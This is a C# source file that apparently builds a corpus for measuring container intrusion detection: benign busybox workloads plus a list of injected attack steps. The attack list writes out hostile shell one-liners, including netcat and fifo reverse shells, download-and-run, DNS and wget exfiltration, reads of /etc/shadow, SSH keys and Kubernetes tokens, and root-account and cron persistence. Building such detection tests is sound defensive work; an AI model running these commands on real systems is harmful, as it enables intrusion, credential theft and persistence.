namespace WorkloadProfiles.DetectionQuality.Corpus;

/// <summary>One benign image of the corpus: a busybox rootfs with the workload's entrypoint script.</summary>
/// <param name="Name">Image name (the tag is <see cref="Scenario.Tag"/>).</param>
/// <param name="Workload">What the entrypoint loop does (its body; the job runner is appended by the scenario).</param>
public sealed record BenignImage(string Name, string Description, string Workload);

/// <summary>How an attack step reaches the container.</summary>
public enum Injection
{
    /// <summary>Dropped as a job the image's own runner executes with <c>sh -c</c>: an injected payload (RCE) landing on the
    /// same process node as the image's benign inline scripts.</summary>
    Job,
    /// <summary>Run through <c>podman exec … sh -c</c>: an operator's or intruder's shell (kubectl exec).</summary>
    Exec,
    /// <summary>Written into a setting the workload reads (<see cref="AttackStep.ConfigFile"/>): the image's own processes then
    /// run with the attacker's value in their arguments (SSRF, argument injection) on nodes the profile knows.</summary>
    Config,
}

/// <summary>
/// One attack step against a container of <paramref name="Image"/>. For <see cref="Injection.Job"/> and
/// <see cref="Injection.Exec"/>, <paramref name="Command"/> is the script run by <c>sh -c</c>; for
/// <see cref="Injection.Config"/>, the value written to <paramref name="ConfigFile"/>. The replay labels the step's
/// processes from what the attack itself is, never from a marker that would change its arguments: the exec of
/// <c>sh -c Command</c>, or any exec whose arguments carry the injected value; their descendants inherit the label.
/// </summary>
public sealed record AttackStep(string Name, string Technique, string Image, string Command, Injection Via = Injection.Job, string? ConfigFile = null)
{
    /// <summary>Whether an exec with these arguments is this step's entry point.</summary>
    public bool IsEntry(IReadOnlyList<string>? args)
    {
        if (args is null) return false;
        if (Via == Injection.Config)
        {
            foreach (var arg in args)
                if (arg.Contains(Command, StringComparison.Ordinal)) return true;
            return false;
        }
        return args.Count >= 3 && args[1] == "-c" && args[2] == Command;
    }
}

/// <summary>
/// The corpus: four benign images (a web server, a queue worker, a cron-like scheduler, an API client), each run by
/// learning containers (their snapshots form the Stable profile), benign repeats in fresh containers, and an attack
/// container that runs the same workload while attack steps are injected. Workloads vary what real workloads vary
/// (timestamps, counters, query strings, ids), run shell inline scripts (so an injected payload lands on a process node
/// the profile knows) and read settings an attacker can change (upstream, cache host, backup source, service name: the
/// image's own tools then run on known nodes with the attacker's arguments).
/// </summary>
public static class Scenario
{
    public const string Tag = "1.0";

    /// <summary>Appended to every entrypoint: a job dropped in /run/job (the stand-in for an RCE) runs as <c>sh -c</c>.</summary>
    private const string JobRunner =
        """
        run_job() {
          if [ -f /run/job ]; then
            read -r job < /run/job
            rm -f /run/job
            sh -c "$job"
          fi
        }
        """;

    public static IReadOnlyList<BenignImage> Images { get; } =
    [
        new("quality/web", "an httpd with a health-checking loop",
            """
            httpd -p 8080 -h /www
            i=1000
            while true; do
              i=$((i+1))
              upstream=127.0.0.1:8080
              [ -s /run/upstream ] && read -r upstream < /run/upstream
              wget -q -O /dev/null "http://$upstream/index.html?req=$i"
              sh -c "wget -q -O /dev/null http://127.0.0.1:8080/health?ts=$(date +%s)"
              nslookup api.web.internal 127.0.0.1 > /dev/null 2>&1
              sh -c 'cat /www/index.html > /dev/null'
              echo "$(date +%s) GET /index.html 200" >> /tmp/access.log
              run_job
              sleep 2
            done
            """),
        new("quality/worker", "a queue worker hashing job files and probing its cache",
            """
            mkdir -p /data/in
            while true; do
              n=$(date +%s)
              echo "payload $n" > /data/in/job-$n.txt
              sh -c "md5sum /data/in/job-$n.txt >> /tmp/results.log; rm -f /data/in/job-$n.txt"
              cache=127.0.0.1
              [ -s /run/cache-host ] && read -r cache < /run/cache-host
              nc -w 1 $cache 6379 < /dev/null > /dev/null 2>&1
              nslookup redis.worker.internal 127.0.0.1 > /dev/null 2>&1
              run_job
              sleep 2
            done
            """),
        new("quality/cron", "a scheduler: backups, a shadow-file audit, a state file below /etc",
            """
            mkdir -p /etc/app /backup
            while true; do
              src=/etc/app
              [ -s /run/backup-src ] && read -r src < /run/backup-src
              sh -c "tar -czf /backup/etc-$(date +%s).tgz $src 2>/dev/null; ls -t /backup/*.tgz | tail -n +4 | xargs rm -f"
              sh -c 'grep -c root /etc/shadow > /dev/null'
              sh -c "echo last_run=$(date +%s) > /etc/app/state"
              run_job
              sleep 3
            done
            """),
        new("quality/api", "an API client paging a service, with a metrics probe on port 3333",
            """
            p=1
            while true; do
              p=$((p % 50 + 1))
              wget -q -O /dev/null "http://127.0.0.1:9000/api/v1/items?page=$p" 2>/dev/null
              nc -w 1 127.0.0.1 3333 < /dev/null > /dev/null 2>&1
              svc=payments.api.internal
              [ -s /run/service ] && read -r svc < /run/service
              nslookup $svc 127.0.0.1 > /dev/null 2>&1
              sh -c 'test -f /tmp/token || echo t > /tmp/token'
              run_job
              sleep 2
            done
            """),
    ];

    public static IReadOnlyList<AttackStep> Attacks { get; } =
    [
        // web
        new("download-and-run", "download and run a payload with the image's own wget", "quality/web",
            "wget -q -O /tmp/.x http://203.0.113.7/x.sh; printf '#!/bin/sh\\necho owned\\n' > /tmp/.x; chmod +x /tmp/.x; /tmp/.x"),
        new("read-shadow", "credential access", "quality/web", "cat /etc/shadow > /dev/null"),
        new("persistence-profile-d", "persistence: login script", "quality/web",
            "mkdir -p /etc/profile.d; echo 'export PATH=/tmp:$PATH' > /etc/profile.d/z.sh"),
        new("dns-tunnel", "exfiltration over DNS", "quality/web",
            "nslookup $(head -c 12 /etc/passwd | base64 | tr -d '=+/').t.exfil-tunnel.net 127.0.0.1 > /dev/null 2>&1"),
        new("mimic-health-check", "an injected script posing as the health check", "quality/web",
            "wget -q -O /dev/null http://127.0.0.1:8080/health?ts=1; id > /tmp/.id"),
        new("path-trick-wget", "path trick on the executable", "quality/web", "/bin/../bin/wget -q -O /dev/null http://203.0.113.9/p"),
        new("setuid-copy", "a setuid copy of a shell", "quality/web", "cp /bin/busybox /tmp/.bb; chmod u+s /tmp/.bb"),
        new("ssrf-own-wget", "the image's own health-check wget pointed at an attacker's host", "quality/web",
            "203.0.113.50:80", Injection.Config, "/run/upstream"),
        new("base64-piped-shell", "an encoded payload piped into a shell", "quality/web",
            "echo Y2F0IC9ldGMvc2hhZG93ID4gL2Rldi9udWxsCg== | base64 -d | sh"),
        new("exec-interactive-shell", "an operator's interactive shell (kubectl exec)", "quality/web", "echo id | sh -i", Injection.Exec),
        // worker
        new("reverse-shell-nc", "reverse shell with netcat -e", "quality/worker", "nc 198.51.100.23 4444 -e /bin/sh"),
        new("read-ssh-key", "credential access", "quality/worker", "cat /root/.ssh/id_rsa > /dev/null"),
        new("persistence-passwd", "persistence: a root account", "quality/worker", "echo 'svc:x:0:0::/:/bin/sh' >> /etc/passwd"),
        new("miner", "a miner copied to /tmp, its pool resolved", "quality/worker",
            "cp /bin/busybox /tmp/xmrig; /tmp/xmrig --url=stratum+tcp://pool.minexmr.com:4444 --donate-level=1; nslookup pool.minexmr.com 127.0.0.1 > /dev/null 2>&1"),
        new("recon", "discovery", "quality/worker", "cat /proc/1/environ > /dev/null; ps > /dev/null; netstat -an > /dev/null"),
        new("dns-exfil-known-name", "exfiltration under the image's own DNS suffix", "quality/worker",
            "nslookup $(hostname).redis.worker.internal 127.0.0.1 > /dev/null 2>&1"),
        new("busybox-applet-nc", "netcat through the busybox multi-call binary", "quality/worker", "busybox nc -w 1 203.0.113.10 5555 < /dev/null"),
        new("cache-redirect-own-nc", "the image's own cache probe pointed at an attacker's address", "quality/worker",
            "198.51.100.60", Injection.Config, "/run/cache-host"),
        new("exec-recon", "an intruder's shell listing the filesystem", "quality/worker", "ls -la / /root /etc > /dev/null", Injection.Exec),
        // cron
        new("read-shadow-tricks", "credential access through relative and dotted paths", "quality/cron",
            "cd /etc && cat ./shadow > /dev/null; cat //etc/../etc/shadow > /dev/null"),
        new("mimic-benign-grep", "the image's own audit command, injected", "quality/cron", "grep -c root /etc/shadow"),
        new("persistence-crontab", "persistence: a cron job", "quality/cron", "mkdir -p /etc/crontabs; cd /etc/crontabs && echo '* * * * * /tmp/.x' >> root"),
        new("script-from-tmp", "a dropped script run by the shell", "quality/cron", "echo 'cat /etc/shadow' > /tmp/s.sh; sh /tmp/s.sh > /dev/null"),
        new("package-install-symlink", "a package manager through a symlink", "quality/cron", "ln -sf /bin/busybox /tmp/apt-get; /tmp/apt-get install -y socat"),
        new("hosts-hijack", "name resolution hijack", "quality/cron", "echo '203.0.113.5 api.web.internal' >> /etc/hosts"),
        new("archive-secrets", "the image's own backup archiving the ssh keys", "quality/cron",
            "/root/.ssh", Injection.Config, "/run/backup-src"),
        new("hardlink-shadow", "reading the shadow file through a hard link", "quality/cron", "ln -f /etc/shadow /tmp/s; cat /tmp/s > /dev/null"),
        // api
        new("reverse-shell-fifo", "reverse shell through a fifo", "quality/api",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.13.37.1 9001 > /tmp/f"),
        new("k8s-token", "credential access: the service-account token", "quality/api",
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null"),
        new("lotl-wget-exfil", "exfiltration with the image's own wget", "quality/api", "wget -q -O - http://198.51.100.77/exfil?d=$(hostname)"),
        new("lotl-nc-shadow", "the image's own probe command carrying the shadow file", "quality/api", "nc -w 1 127.0.0.1 3333 < /etc/shadow"),
        new("odd-tld-dns", "a C2 name under an abused TLD", "quality/api", "nslookup c2.update-check.xyz 127.0.0.1 > /dev/null 2>&1"),
        new("package-install-copy", "a package manager copied to /tmp", "quality/api", "cp /bin/busybox /tmp/apk; /tmp/apk add socat"),
        new("dns-c2-own-nslookup", "the image's own service lookup resolving a C2 name under an ordinary TLD", "quality/api",
            "beacon.cdn-telemetry-sync.com", Injection.Config, "/run/service"),
        new("argv-padding", "a command line padded past the capture limit", "quality/api",
            "wget -q -O /dev/null $(seq 1000 1300) http://203.0.113.11/x"),
    ];

    /// <summary>The entrypoint script of an image: its workload loop with the job runner.</summary>
    public static string Entrypoint(BenignImage image) => $"#!/bin/sh\n{JobRunner}\n{image.Workload}\n";
}
